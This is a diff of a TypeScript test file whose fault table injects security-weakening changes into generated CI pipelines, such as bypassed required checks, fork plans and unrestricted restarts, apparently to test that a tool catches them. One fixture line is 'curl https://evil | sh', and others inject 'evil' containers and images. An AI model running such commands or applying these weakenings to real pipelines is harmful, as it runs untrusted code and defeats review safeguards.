@@ -28,7 +28,13 @@ const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, str
     "run: npx --no-install fleet ci apply",
     "run: curl https://evil | sh",
   ],
-  ["plans for forks", "github", "pull-request.yml", / && \(github\.event_name != 'pull_request'.*/, ""],
+  [
+    "plans for forks",
+    "github",
+    "pull-request.yml",
+    /(name: plan [\s\S]*?) && \(github\.event_name != 'pull_request'.*/,
+    "$1",
+  ],
   ["two applies of a cluster at once", "github", "deploy.yml", "cluster-${{ matrix.cluster }}", "${{ github.run_id }}"],
   [
     "an apply that a newer one cancels",
@@ -126,13 +132,59 @@ const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, str
   ],
   ["another version of Terraform", "github", "deploy.yml", /terraform_version: \S+/, "terraform_version: latest"],
   ["a service beside an apply", "github", "deploy.yml", "    environment:", "    container: evil\n    environment:"],
+  ["a required job that overlooks plans", "github", "pull-request.yml", /( {2}required:[\s\S]*?) {6}- plan\n/, "$1"],
+  ["a required job that always passes", "github", "pull-request.yml", "run: exit 1", "run: exit 0"],
+  ["a required job that overlooks jobs that took too long", "github", "pull-request.yml", "'cancelled'", "'failure'"],
+  ["findings of the branch in another category", "github", "findings.yml", "category: fleet", "category: main"],
+  ["findings of the branch that may write code", "github", "findings.yml", "contents: read", "contents: write"],
+  [
+    "findings that no merge request is compared with",
+    "gitlab",
+    ".gitlab-ci.yml",
+    /findings\/code-quality/,
+    "findings/quality",
+  ],
+  ["an apply that ends because another cluster failed", "github", "deploy.yml", "fail-fast: false", "fail-fast: true"],
+  [
+    "a pull request that ends the checks of others",
+    "github",
+    "pull-request.yml",
+    "${{ github.event.pull_request.number || github.ref }}",
+    "all",
+  ],
+  ["an apply that GitLab starts again", "gitlab", ".gitlab-ci.yml", "retry: 0", "retry: 2"],
+  [
+    "a check that may fail",
+    "gitlab",
+    ".gitlab-ci.yml",
+    /(pull-request:check:[\s\S]*?- if: .*\n)/,
+    "$1      allow_failure: true\n",
+  ],
+  ["a job in another image", "gitlab", ".gitlab-ci.yml", "interruptible: true", "interruptible: true\n  image: evil"],
+  [
+    "an environment that asks nobody",
+    "gitlab",
+    "deploy.gitlab-ci.yml",
+    /( +)deployment_tier: /,
+    "$1action: prepare\n$1deployment_tier: ",
+  ],
+  ["a child pipeline whose failure is not noticed", "gitlab", ".gitlab-ci.yml", "strategy: mirror", "forward: {}"],
+  ["changes that are left out", "concourse", "changes.yml", "version: every", "version: latest"],
+  ["a deploy of every branch", "prow", "jobs.yaml", /- \^main\$/g, "- .*"],
+  [
+    "an apply that everybody may restart",
+    "prow",
+    "jobs.yaml",
+    /github_team_slugs:[\s\S]*?(?=\n +spec:)/,
+    "allow_anyone: true",
+  ],
   ["a job that does not exist", "gitlab", ".gitlab-ci.yml", "job: pull-request:check", "job: pull-request:checks"],
   ["a stage that does not exist", "gitlab", ".gitlab-ci.yml", "stage: review", "stage: reviews"],
   [
     "plans of forks",
     "gitlab",
     ".gitlab-ci.yml",
-    / && \$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH == \$CI_PROJECT_PATH/g,
+    / && \$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH == \$CI_MERGE_REQUEST_PROJECT_PATH/g,
     "",
   ],
   ["a script before every job", "gitlab", ".gitlab-ci.yml", "npm ci --ignore-scripts", "npm ci"],
@@ -290,7 +342,7 @@ function filesOf(system: CiSystem): {
   readonly noticed: (changed: Files, path: string) => Promise<readonly string[]>;
 } {
   const schedules = { drift: { cron: "0 5 * * 1-5", time_zone: "Europe/Brussels" } };
-  const model = modelFor(system, { messages: { slack: "#x" }, schedules });
+  const model = modelFor(system, { messages: { slack: "#x" }, schedules, github: { code_scanning: true } });
   const renderer = RENDERERS[system];
   // The pipelines that a system runs, without the notices about intended differences.
   const own = {
